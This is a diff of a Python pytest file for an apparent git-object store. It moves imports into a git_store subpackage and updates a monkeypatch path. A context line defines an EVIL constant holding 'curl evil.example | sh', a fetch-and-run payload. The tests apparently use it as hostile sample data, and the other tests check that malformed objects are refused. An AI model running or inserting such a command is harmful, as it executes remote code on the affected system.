@@ -12,10 +12,10 @@ from pathlib import Path
 import pytest
 
 from trajectories.errors import RunBroken
-from trajectories.object_reader import Reader
-from trajectories.pack_writer import object_id
+from trajectories.git_store.object_reader import Reader
+from trajectories.git_store.pack_writer import object_id
+from trajectories.git_store.trees import EMPTY_TREE, FEW_FILES, Trees
 from trajectories.report.tree_diffs import PairDiff, pair_diffs
-from trajectories.trees import EMPTY_TREE, FEW_FILES, Trees
 
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
 MANY = {f"many/{number}": b"" for number in range(FEW_FILES + 1)}
@@ -118,7 +118,7 @@ def test_bytes_behind_an_object_answer_no_other_question(more: bytes, tmp_path: 
 
 @pytest.mark.parametrize("data", [b"blob 9\0abc", b"blob 999999999\0abc", b"x" * 5_000_000, b"blob 3", b"blob x\0abc"])
 def test_an_object_of_another_form_is_refused(data: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("trajectories.object_reader.SILENCE", 0.5)
+    monkeypatch.setattr("trajectories.git_store.object_reader.SILENCE", 0.5)
     with Trees(tmp_path / "trees.git") as trees:
         id = object_id("blob", b"abc")
         write_loose(trees.path, id, data)
